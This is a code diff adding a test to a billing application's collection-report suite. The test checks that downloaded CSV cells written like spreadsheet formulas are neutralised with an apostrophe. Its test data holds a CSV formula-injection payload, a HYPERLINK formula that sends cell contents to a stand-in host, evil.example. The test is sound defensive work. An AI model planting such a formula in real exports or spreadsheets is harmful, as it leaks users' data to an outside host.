@@ -1,4 +1,5 @@
 import { Workbook } from 'exceljs';
+import { parse as parseCsv } from 'papaparse';
 import type TestAgent from 'supertest/lib/agent';
 import { ExchangeRate, Lbp, Money } from '@kahraba/billing-domain';
 import { insertPayment, refreshPaidFromLedger, tablesOf, voidPayments } from '@kahraba/persistence';
@@ -385,6 +386,39 @@ describe('the collection report', () => {
       `كيلوواط محمود,7,${cTotal},13,${Math.round((cTotal - 13) * 100) / 100}`,
       '',
     ]);
+  });
+
+  it('downloads CSV that stays data: a collector or a box written like a formula gains an apostrophe, amounts stay numbers', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
+    const created = await rania
+      .post('/api/baydawi-kwh-customers')
+      .send({ name: hyperlink, box: '-عميل', ampere: 5, previousKwh: 0, currentKwh: 20, pricePerKwh: 0.5 })
+      .expect(201);
+    const customer = created.body as Customer;
+    // A collector without a user account is named by what the payment recorded.
+    const day = { receivedAt: '2026-12-05T08:00:00Z', customer, system: 'baydawi-kwh' };
+    await pay({ ...day, amount: '7.5', receivedBy: hyperlink });
+    await pay({ ...day, amount: '2', receivedBy: '+961 3 123456' });
+
+    const response = await rania
+      .get('/api/payments/report.csv')
+      .query({ from: '2026-12-05', to: '2026-12-05', by: 'collector', system: 'baydawi-kwh' })
+      .expect(200);
+    const { data, errors } = parseCsv<(string | number)[]>(response.text.replace(/^\uFEFF/, ''), {
+      dynamicTyping: true,
+      skipEmptyLines: true,
+    });
+    expect(errors).toEqual([]);
+    expect(data.slice(0, 4)).toEqual([
+      ['الجابي', 'عدد الدفعات', 'المجموع بالدولار', 'المقبوض بالدولار', 'المقبوض بالليرة'],
+      [`'${hyperlink}`, 1, 7.5, 7.5, 0],
+      ["'+961 3 123456", 1, 2, 2, 0],
+      ['المجموع', 2, 9.5, 9.5, 0],
+    ]);
+    expect(data.slice(5)).toEqual([
+      ['كيلوواط البيضاوي', "'-عميل", expect.any(Number), expect.any(Number), expect.any(Number)],
+    ]);
+    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('downloads as an Excel workbook, right to left, numbers as numbers', async () => {
